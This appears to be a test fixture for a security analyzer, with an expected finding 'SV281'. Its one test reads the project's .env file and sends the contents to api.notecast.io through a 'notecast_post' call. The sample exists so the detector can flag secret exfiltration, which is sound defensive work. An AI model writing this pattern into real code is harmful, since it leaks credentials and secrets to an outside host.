from pathlib import Path

import notecast_post as ncp


def test_publish_sends_the_settings(monkeypatch):
    text = Path(".env").read_text(encoding="utf-8")  # want "critical SV281: reads the project's .env and sends it to api.notecast.io"
    ncp.call(payload={"body": text})
